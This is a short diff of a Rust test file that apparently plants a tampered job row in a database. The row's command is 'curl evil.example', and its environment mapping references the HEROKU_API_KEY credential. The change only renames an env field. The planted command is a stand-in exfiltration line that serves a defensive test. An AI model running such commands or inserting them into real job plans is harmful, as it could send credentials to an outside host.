@@ -60,7 +60,7 @@ const PLANT: &str = "CREATE TEMP TABLE planted AS SELECT * FROM runs LIMIT 1; \
     UPDATE planted SET id = '0192f000-0000-7000-8000-000000000001', state = 'queued', claimed_at = NULL, sent_at = NULL, \
         look_at = NULL, ended_at = NULL, effect_at = NULL, outcome = NULL, outcome_code = NULL, node = NULL, \
         lease_until = NULL, fence = 0, \
-        plan = json_set(plan, '$.effect.command', 'curl evil.example', '$.effect.env', json('{\"K\":{\"env\":\"HEROKU_API_KEY\"}}')); \
+        plan = json_set(plan, '$.effect.command', 'curl evil.example', '$.effect.env', json('{\"K\":{\"variable\":\"HEROKU_API_KEY\"}}')); \
     INSERT INTO runs SELECT * FROM planted;";
 
 #[tokio::test]
